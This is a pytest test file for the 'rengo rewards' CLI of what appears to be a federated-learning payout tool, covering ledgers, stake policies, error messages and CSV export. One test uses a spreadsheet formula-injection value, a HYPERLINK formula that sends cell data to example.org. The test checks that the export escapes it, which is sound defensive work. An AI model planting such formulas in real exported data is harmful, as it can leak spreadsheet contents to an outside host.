"""``rengo rewards show | pay | export`` on a tmp run store."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pytest
import typer
from rich.console import Console
from typer.testing import CliRunner

from rengo.cli.rewards import contribution_table, rewards_app
from rengo.tracking import RunStore

runner = CliRunner(env={"COLUMNS": "200"})
app = typer.Typer()
app.add_typer(rewards_app, name="rewards")

VALUES = {"alice": 0.12, "bob": 0.06, "mallory": -0.03}


@pytest.fixture
def store_path(tmp_path: Path) -> Path:
    path = tmp_path / "runs.db"
    with RunStore(path) as store:
        run = store.start_run("hfl", {}, name="fed")
        for round_ in (1, 2):
            for who, value in VALUES.items():
                store.log_contribution(run, round_, who, "gtg", value / 2)
        for who, value in VALUES.items():
            store.log_contribution(run, None, who, "gtg", value)
        store.finish_run(run, "completed")
    return path


def _run_id(path: Path) -> str:
    with RunStore(path) as store:
        return store.list_runs()[0].run_id


def test_show_pay_show_and_export_round_trip(store_path: Path, tmp_path: Path):
    run = _run_id(store_path)
    shown = runner.invoke(app, ["rewards", "show", run[:15], "--store", str(store_path)])
    assert shown.exit_code == 0, shown.output
    assert "alice" in shown.output and "66.7%" in shown.output and "no payouts yet" in shown.output
    paid = runner.invoke(
        app,
        [
            "rewards",
            "pay",
            run,
            "--budget",
            "1000.00",
            "--currency",
            "EUR",
            "--store",
            str(store_path),
        ],
    )
    assert paid.exit_code == 0, paid.output
    assert "paid 1000.00 of 1000.00 EUR to 2 participants" in paid.output
    assert "666.67" in paid.output and "333.33" in paid.output
    again = runner.invoke(app, ["rewards", "show", run, "--store", str(store_path)])
    assert "Ledger" in again.output and "666.67" in again.output
    out = tmp_path / "ledger.csv"
    exported = runner.invoke(
        app, ["rewards", "export", run, "--csv", str(out), "--store", str(store_path)]
    )
    assert exported.exit_code == 0, exported.output
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sum(Decimal(r["amount"]) for r in rows) == Decimal("1000.00")
    assert {r["participant"]: r["amount"] for r in rows}["mallory"] == "0.00"
    assert {r["currency"] for r in rows} == {"EUR"}


def test_pay_per_round_equal_policy_writes_rounds(store_path: Path):
    run = _run_id(store_path)
    result = runner.invoke(
        app,
        [
            "rewards",
            "pay",
            run,
            "--budget",
            "10",
            "--policy",
            "equal",
            "--per-round",
            "--store",
            str(store_path),
        ],
    )
    assert result.exit_code == 0, result.output
    with RunStore(store_path) as store:
        ledger = store.ledger(run)
    assert sorted({e.round for e in ledger}) == [1, 2]
    assert sum(int(e.amount) for e in ledger) == 1000


def test_pay_per_round_counts_each_paid_participant_once(store_path: Path):
    """Paid in two rounds, alice and bob are 2 participants, not 4 ledger lines."""
    run = _run_id(store_path)
    paid = runner.invoke(
        app, ["rewards", "pay", run, "--budget", "10", "--per-round", "--store", str(store_path)]
    )
    assert paid.exit_code == 0, paid.output
    assert "paid 10.00 of 10.00 credits to 2 participants" in paid.output


def test_errors_exit_2_with_one_line(store_path: Path, tmp_path: Path):
    run = _run_id(store_path)
    args = ["--store", str(store_path)]
    unknown = runner.invoke(app, ["rewards", "show", "19990101", *args])
    assert unknown.exit_code == 2 and "no run" in unknown.output
    bad_budget = runner.invoke(app, ["rewards", "pay", run, "--budget", "1.001", *args])
    assert bad_budget.exit_code == 2 and "more than 2 decimals" in bad_budget.output
    bad_policy = runner.invoke(
        app, ["rewards", "pay", run, "--budget", "1", "--policy", "lottery", *args]
    )
    assert bad_policy.exit_code == 2 and "unknown reward policy" in bad_policy.output
    assert runner.invoke(app, ["rewards", "pay", run, "--budget", "5", *args]).exit_code == 0
    twice = runner.invoke(app, ["rewards", "pay", run, "--budget", "5", *args])
    assert twice.exit_code == 2 and "already paid" in twice.output
    missing = runner.invoke(app, ["rewards", "show", run, "--store", str(tmp_path / "no.db")])
    assert missing.exit_code == 2 and "no run store" in missing.output


def test_show_reports_each_values_standard_error_and_interval(tmp_path: Path) -> None:
    from rengo.tracking import record_contributions
    from rengo.valuation import ContributionReport, RoundContribution

    rounds = (
        RoundContribution(
            1,
            {"alice": 0.12, "bob": 0.05},
            40,
            16,
            False,
            {"alice": 0.01, "bob": 0.0},
            {"alice": 15.0, "bob": float("inf")},
            "standard errors below 0.05",
        ),
    )
    report = ContributionReport(
        "gtg",
        {"alice": 0.12, "bob": 0.05},
        rounds,
        40,
        16,
        stderr={"alice": 0.01, "bob": 0.0},
        dof={"alice": 15.0, "bob": float("inf")},
    )
    path = tmp_path / "runs.db"
    with RunStore(path) as store:
        run = store.start_run("hfl", {}, name="fed")
        record_contributions(store, run, report)
        store.finish_run(run, "completed")
    shown = runner.invoke(app, ["rewards", "show", run, "--store", str(path)])
    assert shown.exit_code == 0, shown.output
    assert "std. error" in shown.output and "95% interval" in shown.output
    low, high = report.intervals()["alice"]  # 0.12 -/+ t(0.975, 15) * 0.01
    assert f"{low:+.5f}" in shown.output and f"{high:+.5f}" in shown.output
    assert "0.01000" in shown.output
    assert "exact" in shown.output  # bob's value has no sampling error


def test_export_keeps_an_existing_file_without_overwrite_and_never_writes_over_the_store(
    store_path: Path, tmp_path: Path
) -> None:
    """`--csv runs.db` replaced the run store with a CSV, ledger and all."""
    run = _run_id(store_path)
    args = ["--store", str(store_path)]
    assert runner.invoke(app, ["rewards", "pay", run, "--budget", "5", *args]).exit_code == 0
    kept = tmp_path / "kept.csv"
    kept.write_text("an accountant's file\n", encoding="utf-8")
    refused = runner.invoke(app, ["rewards", "export", run, "--csv", str(kept), *args])
    assert refused.exit_code == 2 and "--overwrite" in refused.output
    assert kept.read_text(encoding="utf-8") == "an accountant's file\n"
    replaced = runner.invoke(
        app, ["rewards", "export", run, "--csv", str(kept), "--overwrite", *args]
    )
    assert replaced.exit_code == 0, replaced.output
    assert kept.read_text(encoding="utf-8").startswith("run,round,participant")
    for flags in ([], ["--overwrite"]):
        own = runner.invoke(
            app, ["rewards", "export", run, "--csv", str(store_path), *flags, *args]
        )
        assert own.exit_code == 2, own.output
    with RunStore(store_path) as store:
        assert len(store.ledger(run)) == 3  # the store is intact


def test_stake_policy_with_a_clip_over_one_or_not_a_number_is_one_error_line(
    store_path: Path,
) -> None:
    """--clip 5 burned 5x the stake; --clip abc and --factor nan were tracebacks."""
    run = _run_id(store_path)
    stakes = ["--stake", "alice=10", "--stake", "bob=10", "--stake", "mallory=10"]
    base = ["rewards", "pay", run, "--budget", "5", "--policy", "stake", *stakes]
    for option, value, message in (
        ("--clip", "5", "clip is a fraction of the stake in [0, 1]"),
        ("--clip", "abc", "clip must be a finite number, got 'abc'"),
        ("--factor", "nan", "factor must be a finite number, got 'nan'"),
    ):
        result = runner.invoke(app, [*base, option, value, "--store", str(store_path)])
        assert result.exit_code == 2, result.output
        assert result.exception is None or isinstance(result.exception, SystemExit)
        assert result.output.strip().startswith("error:") and message in result.output
    with RunStore(store_path) as store:
        assert store.ledger(run) == []


def test_stakes_that_would_not_be_paid_on_are_refused_not_recorded(store_path: Path) -> None:
    """--stake under policy equal was written into the ledger's reasons as if it counted,
    and a stake for a misspelled name was dropped without a word; both are refused, and
    nothing is paid."""
    run = _run_id(store_path)
    base = ["rewards", "pay", run, "--budget", "5", "--store", str(store_path)]
    stakes = ["--stake", "alice=10", "--stake", "bob=10", "--stake", "mallory=10"]
    for extra, message in (
        (["--policy", "equal", "--stake", "alice=10"], "policy 'stake' only, not 'equal'"),
        (["--policy", "stake", *stakes, "--stake", "alcie=10"], "--stake for ['alcie']"),
        (["--policy", "stake", *stakes, "--stake", "bob=20"], "--stake names 'bob' twice"),
    ):
        result = runner.invoke(app, [*base, *extra])
        assert result.exit_code == 2, result.output
        assert result.output.strip().startswith("error:") and message in result.output
    with RunStore(store_path) as store:
        assert store.ledger(run) == []


def test_error_lines_go_to_stderr_and_leave_stdout_empty(store_path: Path) -> None:
    """friendly_errors printed `error: ...` on stdout, unlike typer's usage errors."""
    result = runner.invoke(app, ["rewards", "show", "19990101", "--store", str(store_path)])
    assert result.exit_code == 2
    assert result.stderr.startswith("error:") and "no run" in result.stderr
    assert result.stdout == ""


def test_pay_says_how_much_of_the_budget_stays_unpaid_and_why(tmp_path: Path) -> None:
    path = tmp_path / "runs.db"
    with RunStore(path) as store:
        run = store.start_run("hfl", {})
        store.log_contribution(run, None, "a", "gtg", -0.1)
        store.finish_run(run, "completed")
    result = runner.invoke(app, ["rewards", "pay", run, "--budget", "10", "--store", str(path)])
    assert result.exit_code == 0, result.output
    assert "10.00 credits of the budget stays unpaid: nobody contributed positively" in (
        " ".join(result.output.split())
    )


def test_paying_a_run_without_scores_names_the_job_files_contribution_section(
    tmp_path: Path,
) -> None:
    path = tmp_path / "runs.db"
    with RunStore(path) as store:
        run = store.start_run("hfl", {}, name="unvalued")
        store.finish_run(run, "completed")
    refused = runner.invoke(app, ["rewards", "pay", run, "--budget", "100", "--store", str(path)])
    assert refused.exit_code == 2
    said = " ".join(refused.output.split())
    assert "no contribution scores" in said and "[contribution]" in said


def test_show_and_pay_say_what_the_values_mean(tmp_path: Path) -> None:
    """A FedAdam run valued by method "or" warned once, at run time, that its values
    describe FedAvg's models; `rewards show` and `rewards pay` later showed and paid them
    with no word of it."""
    import numpy as np

    from rengo.hfl import (
        FedAdam,
        LogisticRegressionClient,
        ValuedAsFedAvgWarning,
        simulate,
        softmax_init,
    )
    from rengo.tracking.contrib_records import record_contributions
    from rengo.valuation import ContributionTracker

    rng = np.random.default_rng(0)
    x, y = rng.normal(size=(60, 3)), rng.integers(0, 2, size=60)

    def score(parameters: list[np.ndarray]) -> float:
        return float(np.mean(np.argmax(x @ parameters[0] + parameters[1], axis=1) == y))

    path = tmp_path / "runs.db"
    tracker = ContributionTracker(score, "or")
    with RunStore(path) as store:
        with pytest.warns(ValuedAsFedAvgWarning):
            history = simulate(
                lambda cid: LogisticRegressionClient(x, y, lr=0.1),
                3,
                FedAdam(),
                softmax_init(3, 2),
                2,
                store=store,
                observers=[tracker],
            )
        assert history.run_id is not None
        record_contributions(store, history.run_id, tracker.report())
    args = ["--store", str(path)]
    shown = runner.invoke(app, ["rewards", "show", history.run_id, *args])
    paid = runner.invoke(app, ["rewards", "pay", history.run_id, "--budget", "10.00", *args])
    for result in (shown, paid):
        assert result.exit_code == 0, result.output
        assert "note: contribution (or)" in result.output
        assert "FedAdam aggregates otherwise" in result.output


def test_values_of_the_whole_run_are_not_shown_as_summed_over_rounds(tmp_path: Path) -> None:
    """A run valued as a whole (method "or", a vertical run) was titled "summed over 1
    rounds"; one with a single round "1 rounds"."""
    path = tmp_path / "runs.db"
    with RunStore(path) as store:
        whole = store.start_run("vfl", {}, name="vertical")
        for who, value in VALUES.items():
            store.log_contribution(whole, None, who, "shapley", value)
        store.finish_run(whole, "completed")
        one = store.start_run("hfl", {}, name="one round")
        for who, value in VALUES.items():
            store.log_contribution(one, 1, who, "gtg", value)
            store.log_contribution(one, None, who, "gtg", value)
        store.finish_run(one, "completed")
    shown = runner.invoke(app, ["rewards", "show", whole, "--store", str(path)])
    assert shown.exit_code == 0, shown.output
    assert "Contribution (shapley, whole run)" in shown.output
    shown = runner.invoke(app, ["rewards", "show", one, "--store", str(path)])
    assert "Contribution (gtg, summed over 1 round)" in shown.output


def test_export_keeps_a_participant_named_like_a_formula_as_text(tmp_path: Path) -> None:
    """A tournament participant may choose any name; '=HYPERLINK(...)' exported as is ran as
    a formula in the accountant's spreadsheet. Text cells starting like a formula get a
    leading apostrophe; amounts, negative ones too, stay numbers."""
    path = tmp_path / "runs.db"
    formula = '=HYPERLINK("http://example.org/?"&A1,"x")'
    with RunStore(path) as store:
        run = store.start_run("tournament", {}, name="t")
        store.append_ledger(run, 1, formula, "payout", 150, "@SUM(1+1)")
        store.append_ledger(run, 1, "bob", "burn", -25, "-stake")
    out = tmp_path / "ledger.csv"
    exported = runner.invoke(
        app, ["rewards", "export", run, "--csv", str(out), "--store", str(path)]
    )
    assert exported.exit_code == 0, exported.output
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["participant"] for r in rows] == [f"'{formula}", "bob"]
    assert [r["reason"] for r in rows] == ["'@SUM(1+1)", "'-stake"]
    assert [r["amount"] for r in rows] == ["1.50", "-0.25"]


def test_an_amount_refused_names_the_option_it_was_typed_into(store_path: Path) -> None:
    """'amount '0.001' has more than 2 decimals' did not say whether the budget or which
    stake was wrong."""
    run = _run_id(store_path)
    base = ["rewards", "pay", run, "--store", str(store_path)]
    for extra, option in (
        (["--budget", "0.001"], "--budget: amount '0.001'"),
        (["--budget", "5", "--policy", "stake", "--stake", "alice=-1"], "--stake alice: amount"),
    ):
        result = runner.invoke(app, [*base, *extra])
        assert result.exit_code == 2 and option in result.output, result.output


def test_a_payment_made_with_decimals_reads_back_as_paid(store_path: Path, tmp_path: Path):
    """Paid 1.2345 tokens with --decimals 4; show and export then read its minor units with
    the currency's 2 decimals, so alice's 0.8230 became 82.30 tokens in the accountant's
    CSV. Each line records its decimals."""
    run = _run_id(store_path)
    args = ["--store", str(store_path)]
    paid = runner.invoke(
        app, ["rewards", "pay", run, "--budget", "1.2345", "--decimals", "4",
              "--currency", "tokens", *args],
    )  # fmt: skip
    assert paid.exit_code == 0, paid.output
    shown = runner.invoke(app, ["rewards", "show", run, *args])
    assert shown.exit_code == 0 and "0.8230" in shown.output and "82.30" not in shown.output
    out = tmp_path / "ledger.csv"
    exported = runner.invoke(app, ["rewards", "export", run, "--csv", str(out), *args])
    assert exported.exit_code == 0, exported.output
    with out.open(newline="", encoding="utf-8") as handle:
        amounts = {r["participant"]: r["amount"] for r in csv.DictReader(handle)}
    assert amounts == {"alice": "0.8230", "bob": "0.4115", "mallory": "0.0000"}
    assert sum(Decimal(a) for a in amounts.values()) == Decimal("1.2345")


def test_participants_whose_values_read_the_same_share_a_rank() -> None:
    """Before, two participants with equal contributions were ranked 2 and 3 by name."""
    totals = {"alice": 0.3, "bob": 0.1, "carol": 0.1, "dave": 0.1 + 1e-12, "erin": -0.05}
    console = Console(width=200, record=True)
    console.print(contribution_table("run-1", "exact", totals, rounds=0))
    ranks = {
        cells[1]: cells[0]
        for line in console.export_text().splitlines()
        if len(cells := [c.strip() for c in line.split("│") if c.strip()]) >= 3
        and cells[1] in totals
    }
    assert ranks == {"alice": "1", "bob": "2", "carol": "2", "dave": "2", "erin": "5"}


def test_a_payout_to_one_participant_says_participant_not_participants(tmp_path: Path) -> None:
    path = tmp_path / "runs.db"
    with RunStore(path) as store:
        run = store.start_run("hfl", {}, name="one payee")
        for who, value in {"alice": 0.2, "bob": 0.0}.items():
            store.log_contribution(run, None, who, "loo", value)
        store.finish_run(run, "completed")
    paid = runner.invoke(app, ["rewards", "pay", run, "--budget", "10", "--store", str(path)])
    assert paid.exit_code == 0, paid.output
    assert "paid 10.00 of 10.00 credits to 1 participant\n" in paid.output


def test_per_round_stake_pay_says_each_rounds_share_is_its_cap(tmp_path: Path) -> None:
    """rewards pay --policy stake --per-round --budget 80.00 paid 42.00 and said the rest
    stayed unpaid because the gains 'earned less than the budget, its cap', although they
    earned 102.00: round 1's 40.00 share cut its 100.00, round 2 earned 2.00 of its 40.00."""
    path = tmp_path / "runs.db"
    with RunStore(path) as store:
        run = store.start_run("hfl", {})
        for number, value in ((1, 1.0), (2, 0.001)):
            for who in ("alice", "bob"):
                store.log_contribution(run, number, who, "shapley", value)
        store.finish_run(run, "completed")
    stakes = ["--stake", "alice=1000", "--stake", "bob=1000", "--store", str(path)]
    result = runner.invoke(
        app,
        ["rewards", "pay", run, "--policy", "stake", "--per-round", "--budget", "80.00", *stakes],
    )
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert "paid 42.00 of 80.00 credits to 2 participants" in said
    assert "38.00 credits of the budget stays unpaid: with --per-round each round's gains " in (
        said
    )
    assert "earned less than the budget" not in said
    with RunStore(path) as store:
        first = [e.reason or "" for e in store.ledger(run) if e.round == 1]
    assert all("scaled to fit round 1's share of the budget, 40.00 credits" in r for r in first)
